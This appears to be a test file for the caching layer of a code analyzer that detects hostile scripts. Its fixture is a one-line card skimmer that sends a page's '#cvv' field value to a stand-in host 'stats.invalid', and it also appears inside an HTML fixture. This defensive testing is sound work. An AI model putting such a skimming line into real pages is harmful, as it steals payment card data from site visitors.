import assert from 'node:assert/strict';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createAnalyzer, type Analyzer } from '../../../analyzer/index.ts';
import { withCache } from '../../../cli/support/analysis-cache.ts';
import type { Analysis } from '../../../core/schema/index.ts';

const code = 'fetch("https://stats.invalid/?" + document.querySelector("#cvv").value);\n';

describe('withCache', () => {
  let bare: Analyzer;
  let dir: string;
  let asked: number;
  before(async () => {
    bare = await createAnalyzer({ workers: 1 });
  });
  after(() => bare.close());
  beforeEach(async () => {
    dir = join(await mkdtemp(join(tmpdir(), 'cache-')), 'cache');
    asked = 0;
  });
  afterEach(() => rm(join(dir, '..'), { recursive: true }));

  const open = (version = bare.version): Promise<Analyzer> =>
    withCache(
      {
        version,
        analyze: (input, signal) => {
          asked++;
          return bare.analyze(input, signal);
        },
        close: () => Promise.resolve(),
      },
      dir,
    );
  const judge = async (path = 'a.js', text = code, version = bare.version): Promise<Analysis> =>
    (await (await open(version)).analyze({ path, bytes: Buffer.from(text) })).analysis;
  const entries = async (): Promise<string[]> => {
    const [folder] = await readdir(dir);
    return (await readdir(join(dir, folder!))).map((name) => join(dir, folder!, name));
  };
  const timeless = (analysis: Analysis): object => ({
    ...analysis,
    timings: null,
    scripts: analysis.scripts?.map((script) => ({ ...script, timings: null })),
  });

  it('gives the same analysis again without asking', async () => {
    const first = await judge();
    const second = await judge();
    assert.equal(asked, 1);
    assert.deepEqual(timeless(second), timeless(first));
    assert.ok(second.evidence.length > 0);
    assert.ok('cacheMs' in second.timings);
  });

  it('knows bytes under another name, and calls the scripts of a page after it', async () => {
    const page = `<p>\n<script>${code}</script>`;
    const first = await judge('a.html', page);
    const second = await judge('b/c.html', page);
    assert.equal(asked, 1);
    assert.deepEqual(
      [first.scripts![0]!.path, second.scripts![0]!.path],
      ['a.html#1:script', 'b/c.html#1:script'],
    );
    assert.deepEqual(second.evidence, first.evidence);
  });

  it('asks again for other bytes, another ending and another detector', async () => {
    await judge();
    await judge('a.js', `${code} `);
    await judge('a.txt');
    await judge('a.js', code, 'another');
    assert.equal(asked, 4);
  });

  it('does not keep what is partial', async () => {
    const hasty = await createAnalyzer({ workers: 1, timeoutMs: 1 });
    const cached = await withCache(hasty, dir);
    const bytes = Buffer.from('a();'.repeat(100_000));
    assert.equal((await cached.analyze({ path: 'a.js', bytes })).analysis.partial, true);
    await hasty.close();
    assert.deepEqual(await entries(), []);
  });

  const spoils: Record<string, (file: string) => Promise<unknown>> = {
    'is cut': async (file) => writeFile(file, (await readFile(file, 'utf8')).slice(0, 400)),
    'is no JSON': (file) => writeFile(file, 'benign'),
    'is empty': (file) => writeFile(file, ''),
    'is for other bytes': async (file) =>
      writeFile(file, (await readFile(file, 'utf8')).replaceAll(/[\da-f]{64} /g, `${'0'.repeat(64)} `)),
    'has another shape': async (file) =>
      writeFile(file, (await readFile(file, 'utf8')).replace('"verdict":"', '"verdict":"very ')),
    'brings __proto__': async (file) =>
      writeFile(file, (await readFile(file, 'utf8')).replace('{', '{"__proto__":{"partial":false},')),
    'is a link': async (file) => {
      await rm(file);
      await writeFile(`${file}.other`, '{}');
      await symlink(`${file}.other`, file);
    },
    'is a folder': async (file) => {
      await rm(file);
      await mkdir(file);
    },
  };
  for (const [name, spoil] of Object.entries(spoils)) {
    it(`ignores an entry that ${name}`, async () => {
      const first = await judge();
      await spoil((await entries())[0]!);
      assert.deepEqual(timeless(await judge()), timeless(first));
      assert.equal(asked, 2);
    });
  }

  it('writes a spoilt entry anew', async () => {
    await judge();
    await writeFile((await entries())[0]!, 'benign');
    await judge();
    await judge();
    assert.equal(asked, 2);
  });

  it('refuses a folder that others may write to', async () => {
    await mkdir(dir);
    await chmod(dir, 0o777);
    await assert.rejects(open(), { code: 'SW_OUTPUT_UNWRITABLE' });
  });
});
